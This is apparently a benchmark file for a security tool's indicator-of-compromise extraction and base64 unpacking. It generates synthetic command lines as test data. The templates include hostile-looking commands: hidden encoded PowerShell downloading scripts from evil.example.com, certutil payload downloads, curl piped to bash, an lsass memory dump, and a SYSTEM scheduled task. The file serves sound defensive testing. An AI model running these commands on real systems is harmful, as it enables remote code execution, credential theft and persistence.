/**
 * Text-analysis benchmark: IoC extraction and base64 unpacking on ~10 MB of realistic command lines, synthesised
 * deterministically (background noise plus encoded PowerShell, downloads, lateral movement, hashes, gzip
 * payloads). Target: IoC extraction ≥ 20 MB/s. Run alone with `node --import tsx bench/text-analysis.bench.ts`,
 * or call `run()`.
 */

import { pathToFileURL } from 'node:url';
import { gzipSync } from 'node:zlib';
import { unpackBase64 } from '../src/analysis/base64/unpack.js';
import { extractIocs, extractIocsFromRows } from '../src/analysis/iocs/extract.js';

/** mulberry32: deterministic, so every run measures the same text. */
function random(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = Math.imul(state ^ (state >>> 15), state | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const hosts = ['evil.example.com', 'cdn.contoso.net', 'update.fabrikam.org', 'files.northwind.io', '185.92.220.35'];
const users = ['alice', 'bob', 'svc_backup', 'admin'];

type Pick = <T>(items: readonly T[]) => T;

function commandLine(pick: Pick, next: () => number): string {
  const host = pick(hosts);
  const n = Math.floor(next() * 10_000);
  const encoded = (text: string) => Buffer.from(text, 'utf16le').toString('base64');
  const templates = [
    () => 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
    () =>
      `"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --field-trial-handle=${n},i,${n * 7} --lang=en-US /prefetch:1`,
    () => `C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1`,
    () => `"C:\\Program Files\\Microsoft Monitoring Agent\\Agent\\MonitoringHost.exe" -Embedding`,
    () =>
      `powershell.exe -NoP -W Hidden -EncodedCommand ${encoded(`IEX (New-Object Net.WebClient).DownloadString('http://${host}/a${n}.ps1')`)}`,
    () => `certutil.exe -urlcache -split -f https://${host}/payload/${n}.exe C:\\Users\\Public\\svc${n % 10}.exe`,
    () =>
      `cmd.exe /c copy \\\\10.0.${n % 255}.5\\share\\tool.exe c:\\temp\\tool.exe && c:\\temp\\tool.exe -o lsass.dmp`,
    () => `/usr/bin/curl -fsSL http://${host}:8080/install.sh -o /tmp/x${n}.sh && bash /tmp/x${n}.sh`,
    () =>
      `Get-FileHash C:\\Windows\\Temp\\a${n}.exe # d41d8cd98f00b204e9800998ecf8427e ${n.toString(16).padStart(64, 'a')}`,
    () => `schtasks /create /tn "Updater${n}" /tr "C:\\ProgramData\\upd.exe" /sc minute /mo 5 /ru SYSTEM`,
    () => `net use \\\\fileserver01\\c$ /user:CONTOSO\\${pick(users)} ; mail ${pick(users)}@contoso.com`,
    () =>
      `python3 -c "exec(__import__('zlib').decompress(__import__('base64').b64decode('${gzipSync(`import os; os.system('curl http://${host}/s${n}')`).toString('base64')}')))"`,
  ];
  return pick(templates)();
}

/** About `bytes` characters of command lines, one per row. */
export function syntheticCommandLines(bytes: number, seed = 7): string[] {
  const next = random(seed);
  const pick: Pick = (items) => items[Math.floor(next() * items.length)] as (typeof items)[number];
  const lines: string[] = [];
  let size = 0;
  while (size < bytes) {
    const line = commandLine(pick, next);
    lines.push(line);
    size += line.length + 1;
  }
  return lines;
}

function rate(chars: number, ms: number): string {
  return `${(chars / 1e6 / (ms / 1000)).toFixed(1)} MB/s`;
}

function timed<T>(work: () => T): [T, number] {
  const started = performance.now();
  const result = work();
  return [result, performance.now() - started];
}

/** Runs the benchmark and prints one plain line per measurement; returns the lines. */
export function run(): string[] {
  const lines: string[] = [];
  const report = (line: string) => {
    lines.push(line);
    console.log(line);
  };
  const rows = syntheticCommandLines(10_000_000);
  const text = rows.join('\n');
  const mb = (text.length / 1e6).toFixed(1);
  extractIocs(text.slice(0, 1_000_000)); // warm-up
  const [found, textMs] = timed(() => extractIocs(text));
  const total = [...found.values()].reduce((sum, set) => sum + set.size, 0);
  report(
    `iocs text ${mb} MB (${rows.length} lines): ${textMs.toFixed(0)} ms, ${rate(text.length, textMs)}; ${total} distinct observables (target ≥ 20 MB/s)`,
  );
  const table = rows.map((CommandLine) => ({ CommandLine }));
  const [iocRows, rowsMs] = timed(() => extractIocsFromRows(table, 'CommandLine'));
  report(
    `iocs rows ${mb} MB (${rows.length} rows, default types): ${rowsMs.toFixed(0)} ms, ${rate(text.length, rowsMs)}; ${iocRows.length} rows`,
  );
  const [records, b64Ms] = timed(() => rows.reduce((sum, line) => sum + unpackBase64(line).records.length, 0));
  report(
    `base64 per line ${mb} MB (${rows.length} lines): ${b64Ms.toFixed(0)} ms, ${rate(text.length, b64Ms)}; ${records} records`,
  );
  const [whole, wholeMs] = timed(() => unpackBase64(text.slice(0, 1_000_000)));
  report(
    `base64 one 1 MB text: ${wholeMs.toFixed(0)} ms, ${rate(1_000_000, wholeMs)}; ${whole.records.length} records, truncated ${whole.truncated}`,
  );
  return lines;
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) run();
